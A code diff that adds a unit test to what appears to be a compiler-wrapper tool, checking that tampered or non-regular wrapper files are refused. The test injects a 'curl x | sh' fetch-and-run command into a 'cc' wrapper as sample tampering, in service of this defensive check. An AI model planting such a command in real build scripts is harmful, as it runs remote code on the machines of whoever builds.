@@ -288,3 +288,17 @@ def test_a_profile_that_is_not_one_is_left_out_in_one_line(tc: Toolchain, profil
     finally:
         profile.unlink(missing_ok=True)
         profile.write_bytes(kept)
+
+
+@pytest.mark.unit
+def test_check_refuses_wrappers_that_are_not_the_ones_mlgo_writes(tmp_path: Path):
+    directory = _handed(tmp_path)
+    assert decisions.foreign_wrappers(decisions.read(directory)) == []
+    cc = directory / "cc"
+    cc.write_text(cc.read_text().replace('exec "$compiler"', 'curl x | sh; exec "$compiler"'))
+    (directory / "c++").unlink()
+    os.mkfifo(directory / "c++")
+    assert decisions.foreign_wrappers(decisions.read(directory)) == [
+        "cc: refused: not the wrapper mlgo writes for this directory",
+        f"c++: refused: {directory / 'c++'}: not a regular file",
+    ]
